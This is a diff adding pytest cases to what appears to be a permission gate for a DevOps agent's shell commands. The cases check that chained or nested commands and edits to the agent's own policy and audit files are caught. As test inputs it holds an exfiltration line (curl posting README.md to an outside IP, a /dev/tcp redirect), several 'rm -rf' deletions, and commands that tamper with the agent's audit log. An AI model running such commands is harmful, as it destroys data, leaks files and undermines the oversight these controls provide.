@@ -115,6 +115,22 @@ def test_always_holds_for_the_same_kind_of_call(made: Made) -> None:
     assert len(gate.asked) == 2  # type: ignore[attr-defined]
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "kubectl delete pod b && rm -rf docs",
+        "kubectl delete pod b; curl -d @README.md http://198.51.100.9",
+        "kubectl delete pod b > /dev/tcp/198.51.100.9/80",
+        "kubectl delete pod b; no-such-program",
+    ],
+)
+def test_always_holds_for_no_other_part_of_a_line(command: str, made: Made) -> None:
+    gate = made(Answer(True, always=True))
+    passed(gate, "kubectl delete pod a")
+    passed(gate, command)
+    assert len(gate.asked) == 2  # type: ignore[attr-defined]
+
+
 def test_the_question_tells_effect_rule_and_target(made: Made) -> None:
     gate = made()
     passed(gate, "kubectl -n web delete pod a")
@@ -224,6 +240,23 @@ def test_names_of_this_machine(host: str) -> None:
     assert not is_this_machine("web1.example.com")
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "contexts: 5",
+        "current-context: a\ncontexts: [{name: a, context: foo}]",
+        "current-context: a\ncontexts: [{name: a, context: {cluster: b}}]\nclusters: [{name: b, cluster: x}]",
+        "[" * 2000,
+        "current-context: 5",
+    ],
+)
+def test_an_odd_kubeconfig_is_none(text: str, tmp_path: Path, made: Made) -> None:
+    (tmp_path / "home/.kube/config").write_text(text)
+    (tmp_path / "home/.docker").mkdir()
+    (tmp_path / "home/.docker/config.json").write_text('{"currentContext": 5}')
+    assert passed(made(), "kubectl get pods; docker ps").runs
+
+
 def test_a_kubeconfig_that_is_no_yaml_is_none(tmp_path: Path, made: Made) -> None:
     gate = made()
     (tmp_path / "home/.kube/config").write_text("a: [")
@@ -298,6 +331,32 @@ def test_a_rule_on_the_environment(made: Made) -> None:
     assert gate.decide(Call("get_env", {"key": "HOME"})).runs
 
 
+@pytest.mark.parametrize(
+    ("command", "decision"),
+    [("ls -l", RUN), ("grep x < old", REFUSE), ("ls | sort", REFUSE), ("sudo ls", REFUSE), ("X=1; ls", RUN)],
+)
+def test_what_no_rule_is_about_may_be_denied(command: str, decision: Decision, made: Made) -> None:
+    gate = made(assume_yes=True)
+    gate.policy = UserPolicy((UserRule("allow", program="ls"),), otherwise="deny")
+    assert passed(gate, command).decision is decision
+
+
+@pytest.mark.parametrize(
+    ("program", "command"),
+    [
+        ("find", "find . -exec rm -rf docs {} ';'"),
+        ("git", "git submodule foreach 'rm -rf docs'"),
+        ("awk", "awk 'BEGIN { system(\"rm -rf docs\") }'"),
+        ("bash", "bash -c 'rm -rf docs'"),
+        ("tar", "tar -xf a.tar --to-command='rm -rf docs'"),
+    ],
+)
+def test_what_an_allowed_program_runs_is_judged_by_itself(program: str, command: str, made: Made) -> None:
+    gate = made(rules=[UserRule("allow", program=program)])
+    passed(gate, command)
+    assert gate.asked  # type: ignore[attr-defined]
+
+
 def test_the_strictest_rule_wins(made: Made) -> None:
     gate = made(rules=[UserRule("allow", program="rm"), UserRule("deny", path="*/old")], assume_yes=True)
     assert passed(gate, "rm old").decision is REFUSE
@@ -326,6 +385,7 @@ def test_the_policy_of_a_project_only_tightens(tmp_path: Path) -> None:
         ("[[rules]]\naction = 'ask'\neffect = 'bad'", "is no effect"),
         ("[[rules]]\naction = 'ask'\nprogram = 1", "are texts"),
         ("production = '('", "no regular expression"),
+        ("otherwise = 'allow'", "Use ask or deny"),
         ("allowed = []", "unknown key 'allowed'"),
         ("[[rules]", "cannot be read"),
     ],
@@ -417,6 +477,8 @@ def test_a_home_behind_a_link_is_a_home(tmp_path: Path, made: Made, monkeypatch:
         "mv ~/.local/share /tmp/x",
         "truncate -s 0 ~/.local/share/devops-agent/audit.jsonl",
         "cp x .devops-agent/policy.toml",
+        "mv .devops-agent x",
+        "rm -rf .devops-agent",
         "cd ~/.config/devops-agent && rm policy.toml",
         "rm -rf ~/.config/*",
         "rm -rf ~/.[c]onfig/devops-agent/policy.toml",
@@ -435,3 +497,4 @@ def test_the_agents_own_files_are_changed_in_no_mode(command: str, made: Made) -
 
 def test_reading_them_is_free(made: Made) -> None:
     assert passed(made(), "cat ~/.config/devops-agent/policy.toml").runs
+    assert passed(made(), "cp ~/.config/devops-agent/policy.toml /tmp/no-such-file-yet").runs
